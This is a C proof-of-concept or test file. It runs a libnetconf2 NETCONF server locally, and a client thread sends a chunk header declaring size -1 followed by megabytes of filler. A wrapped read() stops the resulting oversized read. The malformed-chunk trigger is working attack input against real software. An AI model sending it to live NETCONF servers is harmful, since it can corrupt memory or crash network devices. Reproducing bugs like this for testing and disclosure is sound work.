// SPDX-License-Identifier: GPL-2.0
/*
 * A NETCONF server by libnetconf2, and a client that says a chunk's size is -1. See
 * libnetconf2-chunk.rst.
 *
 *	cc libnetconf2-chunk.c -o libnetconf2-chunk -lnetconf2 -lyang -lpthread
 *	./libnetconf2-chunk [SIZE]
 *
 * Exit: 0: the session has ended; 1: it reads more than it has room for.
 */
#define _GNU_SOURCE
#include <malloc.h>
#include <pthread.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <unistd.h>

#include <libnetconf2/netconf.h>
#include <libnetconf2/session_server.h>
#include <libyang/libyang.h>

#define YANG	"/usr/share/yang/modules/libnetconf2"

static const char hello[] =
	"<hello xmlns=\"urn:ietf:params:xml:ns:netconf:base:1.0\"><capabilities>"
	"<capability>urn:ietf:params:netconf:base:1.0</capability>"
	"<capability>urn:ietf:params:netconf:base:1.1</capability>"
	"</capabilities></hello>]]>]]>";

static const char *size = "-1";

/*
 * libnetconf2's calls come here. What it overwrites is a matter of chance, so it is
 * stopped before. A chunk is read into memory of its own.
 */
ssize_t read(int fd, void *buf, size_t count)
{
	if (count > 1 << 24 && count > malloc_usable_size(buf)) {
		printf("a chunk of %s: read() of %zu bytes into %zu\n", size,
		       count, malloc_usable_size(buf));
		_exit(1);
	}
	return syscall(SYS_read, fd, buf, count);
}

/* A client that has logged in, whatever it may do. */
static void *attack(void *arg)
{
	char data[65536], head[64];
	int fd = *(int *)arg, i;

	snprintf(head, sizeof(head), "\n#%s\n", size);
	memset(data, 'A', sizeof(data));
	send(fd, hello, strlen(hello), MSG_NOSIGNAL);
	send(fd, head, strlen(head), MSG_NOSIGNAL);
	for (i = 0; i < 256; i++)
		if (send(fd, data, sizeof(data), MSG_NOSIGNAL) < 0)
			break;
	shutdown(fd, SHUT_WR);
	while (read(fd, data, sizeof(data)) > 0)
		;
	return NULL;
}

int main(int argc, char **argv)
{
	struct nc_pollsession *ps = nc_ps_new();
	struct nc_session *session, *other;
	struct ly_ctx *ctx = NULL;
	pthread_t thread;
	int fds[2];

	if (argc > 1)
		size = argv[1];
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (ly_ctx_new(YANG, 0, &ctx) || nc_server_init_ctx(&ctx) ||
	    nc_server_init() || socketpair(AF_UNIX, SOCK_STREAM, 0, fds) ||
	    pthread_create(&thread, NULL, attack, &fds[1]))
		return 2;
	if (nc_accept_inout(fds[0], fds[0], "user", ctx, &session) !=
	    NC_MSG_HELLO || nc_ps_add_session(ps, session))
		return 2;
	while (!(nc_ps_poll(ps, 1000, &other) &
		 (NC_PSPOLL_SESSION_TERM | NC_PSPOLL_SESSION_ERROR |
		  NC_PSPOLL_ERROR)))
		;
	close(fds[0]);
	pthread_join(thread, NULL);
	printf("the session has ended, and nothing else\n");
	return 0;
}
